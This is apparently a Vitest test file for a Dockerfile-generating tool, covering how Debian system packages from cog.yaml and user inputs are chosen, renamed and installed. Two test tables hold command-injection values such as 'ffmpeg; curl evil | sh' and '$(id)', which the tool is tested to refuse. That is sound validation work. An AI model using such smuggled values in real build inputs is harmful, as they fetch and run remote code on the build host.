import { describe, expect, it } from 'vitest';
import { detect } from '../../../src/detect/index.js';
import { RefusedInput } from '../../../src/errors.js';
import { plan } from '../../../src/plan/index.js';
import { baseOf } from '../../../src/plan/types.js';
import { memoryReader } from '../../../src/project/reader.js';
import { renderDockerfile } from '../../../src/render/dockerfile.js';
import { BASE_DIGEST, inputsWith, irisLock, irisTree, userError } from '../helpers.js';

const COG = `build:
  python_version: "3.11"
  system_packages:
    - ffmpeg
    - libgl1-mesa-glx
  python_packages:
    - "numpy==2.1.0"
predict: "predict.py:Predictor"
`;

function planOf(tree: Record<string, string>, values: Record<string, string> = {}) {
  const [first] = plan(detect(memoryReader(tree)), inputsWith(values), { hasDockerignore: false });
  if (!first) throw new Error('no plan');
  baseOf(first).digest = BASE_DIGEST;
  return first;
}

describe('system packages', () => {
  it('adds libgomp1 for LightGBM, whose wheel links the OpenMP runtime slim images lack', () => {
    const planned = planOf({ 'requirements.txt': 'lightgbm==4.7.0\n' });
    expect(planned.systemPackages).toEqual([
      { name: 'libgomp1', why: expect.stringMatching(/^lightgbm: lib_lightgbm.so links .*libgomp.so.1/) },
    ]);
    expect(planned.decisions).toContainEqual(
      expect.objectContaining({ topic: 'system packages', choice: 'libgomp1' }),
    );
  });

  it("takes cog's system_packages with their lines, mapping names Debian renamed", () => {
    const planned = planOf({ 'cog.yaml': COG, 'predict.py': '' });
    expect(planned.systemPackages).toEqual([
      { name: 'ffmpeg', why: 'cog.yaml:4' },
      { name: 'libgl1', why: 'cog.yaml:5 lists libgl1-mesa-glx, which Debian renamed libgl1' },
    ]);
  });

  it('installs nothing with apt when nothing needs it', () => {
    const planned = planOf(irisTree);
    expect(planned.systemPackages).toEqual([]);
    expect(renderDockerfile(planned, irisLock())).not.toContain('apt-get');
  });

  it('installs them in the base stage, lists in a cache mount, dated logs removed', () => {
    const dockerfile = renderDockerfile(planOf({ 'cog.yaml': COG, 'predict.py': '' }), irisLock());
    const lines = dockerfile.split('\n');
    const from = lines.findIndex((line) => line.endsWith(' AS base'));
    const apt = lines.findIndex((line) => line.includes('apt-get install'));
    expect(apt).toBeGreaterThan(from);
    expect(apt).toBeLessThan(lines.findIndex((line) => line.startsWith('FROM base AS dependencies')));
    expect(lines[apt]).toBe(
      '    && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends ffmpeg libgl1 \\',
    );
    expect(dockerfile).toContain(
      '--mount=type=cache,id=ml-container-apt-lists,target=/var/lib/apt/lists,sharing=locked',
    );
    expect(dockerfile).toContain('rm -rf /var/log/apt /var/log/dpkg.log');
  });

  it.each([['"ffmpeg; curl evil | sh"'], ['Ffmpeg'], ['[a]']])(
    'refuses a system_packages item that is not a Debian package name: %s',
    (item) => {
      const text = COG.replace('- ffmpeg', `- ${item}`);
      const error = userError(() => detect(memoryReader({ 'cog.yaml': text, 'predict.py': '' })));
      expect(error.message).toMatch(/is not a Debian package name/);
      expect(error.source).toEqual({ file: 'cog.yaml', line: 4 });
    },
  );

  it("adds input 'system-packages', citing the input, and the project's line where both name one", () => {
    const planned = planOf(
      { 'cog.yaml': COG, 'predict.py': '' },
      { 'system-packages': 'libsndfile1, ffmpeg\nlibgl1-mesa-glx' },
    );
    expect(planned.systemPackages).toEqual([
      { name: 'ffmpeg', why: 'cog.yaml:4' },
      { name: 'libgl1', why: 'cog.yaml:5 lists libgl1-mesa-glx, which Debian renamed libgl1' },
      { name: 'libsndfile1', why: "input 'system-packages'" },
    ]);
    const dockerfile = renderDockerfile(planOf(irisTree, { 'system-packages': 'libsndfile1' }), irisLock());
    expect(dockerfile).toContain('apt-get install -y --no-install-recommends libsndfile1 \\');
    expect(dockerfile).toContain("# system packages: libsndfile1 (libsndfile1: input 'system-packages')");
  });

  it.each([['ffmpeg;curl evil|sh'], ['Ffmpeg'], ['ffmpeg=1:4.4'], ['$(id)'], ['a']])(
    "refuses input 'system-packages' item %j, which is not a Debian package name",
    (item) => {
      const error = userError(() => planOf(irisTree, { 'system-packages': `ffmpeg\n${item}` }));
      expect(error).toBeInstanceOf(RefusedInput);
      expect(error.message).toContain(
        `input 'system-packages' has '${item}', which is not a Debian package name`,
      );
    },
  );
});
